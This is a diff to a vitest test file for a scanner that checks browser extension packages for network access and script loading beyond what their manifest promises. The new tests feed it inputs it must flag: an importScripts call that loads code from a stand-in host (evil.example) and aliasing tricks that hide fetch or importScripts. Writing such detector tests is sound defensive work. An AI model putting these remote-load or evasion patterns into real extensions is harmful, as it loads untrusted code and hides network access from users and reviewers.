@@ -1,6 +1,5 @@
 import { describe, expect, test } from 'vitest';
 import type { ManifestPromise } from '../../../src/cli/manifest-promise.ts';
-import type { PackageFile } from '../../../src/cli/package-files.ts';
 import { scanPackage, staleAllowances } from '../../../src/cli/privacy-scan.ts';
 
 const PROMISE: ManifestPromise = {
@@ -20,14 +19,15 @@ const MANIFEST = {
   content_security_policy: { extension_pages: "connect-src 'none'; default-src 'self'" },
 };
 
-const file = (path: string, text: string): PackageFile => ({
-  path,
-  bytes: new TextEncoder().encode(text),
-});
+const packageOf = (files: Record<string, string>, manifest: object = MANIFEST) =>
+  new Map(
+    Object.entries({ ...files, 'manifest.json': JSON.stringify(manifest) }).map(
+      ([path, text]) => [path, new TextEncoder().encode(text)] as const,
+    ),
+  );
 
 function faultsOf(files: Record<string, string>, manifest: object = MANIFEST): string[] {
-  const all = Object.entries(files).map(([path, text]) => file(path, text));
-  return scanPackage([...all, file('manifest.json', JSON.stringify(manifest))], PROMISE, []).faults;
+  return scanPackage(packageOf(files, manifest), PROMISE, []).faults;
 }
 
 describe('a script that could send, or run text, is caught', () => {
@@ -135,31 +135,51 @@ describe('a manifest that says more, or less, than was promised is caught', () =
 });
 
 describe('an allowance', () => {
-  const dead = {
+  const own = {
     file: 'chunks/*.js',
-    rule: 'text as markup',
-    snippet: '.__html',
-    reason: 'unused',
+    rule: 'network',
+    code: /^fetch\(\w+\.runtime\.getURL\(/,
+    reason: 'reads a file of the package',
   };
   const scan = (path: string, code: string) =>
-    scanPackage([file(path, code), file('manifest.json', JSON.stringify(MANIFEST))], PROMISE, [
-      dead,
-    ]);
+    scanPackage(packageOf({ [path]: code }), PROMISE, [own]);
 
-  test('lets its own file and snippet pass, and counts as used', () => {
-    const result = scan('chunks/card.js', 'a.innerHTML=b.__html;');
+  test('lets its own file and code pass, and counts as used', () => {
+    const result = scan('chunks/desk.js', 'fetch(t.runtime.getURL(e))');
     expect(result.faults).toEqual([]);
-    expect(staleAllowances([result], [dead])).toEqual([]);
+    expect(staleAllowances([result], [own])).toEqual([]);
   });
 
-  test('covers neither another file nor other code', () => {
-    expect(scan('watch.js', 'a.innerHTML=b.__html;').faults).toHaveLength(1);
-    expect(scan('chunks/card.js', 'a.innerHTML=b.text;').faults).toHaveLength(1);
+  test.each([
+    ['watch.js', 'fetch(t.runtime.getURL(e))'],
+    ['chunks/desk.js', 'fetch(e)'],
+    ['chunks/desk.js', 'fetch(e,t.runtime.getURL(e))'],
+    ['chunks/desk.js', 't.runtime.getURL(e);let f=fetch;f(e)'],
+  ])('covers neither another file nor other code: %s: %s', (path, code) => {
+    expect(scan(path, code).faults).toHaveLength(1);
   });
 
   test('that nothing needs any more is a fault', () => {
-    expect(staleAllowances([scan('watch.js', '1;')], [dead])).toEqual([
+    expect(staleAllowances([scan('watch.js', '1;')], [own])).toEqual([
       expect.stringContaining('stale allowance: chunks/*.js'),
     ]);
+  });
+});
+
+describe('the background may load its pack, and nothing else', () => {
+  const faults = (path: string, code: string) =>
+    scanPackage(packageOf({ [path]: code }), PROMISE).faults;
+
+  test('by its own name', () => {
+    expect(faults('background.js', 'try{importScripts(`/pack.js`)}catch{}')).toEqual([]);
+  });
+
+  test.each([
+    ['background.js', 'importScripts("https://evil.example/pack.js")'],
+    ['background.js', 'importScripts(`/pack.js`,name)'],
+    ['background.js', 'let load=importScripts;load(`/pack.js`)'],
+    ['watch.js', 'importScripts(`/pack.js`)'],
+  ])('%s: %s', (path, code) => {
+    expect(faults(path, code)).toHaveLength(1);
   });
 });
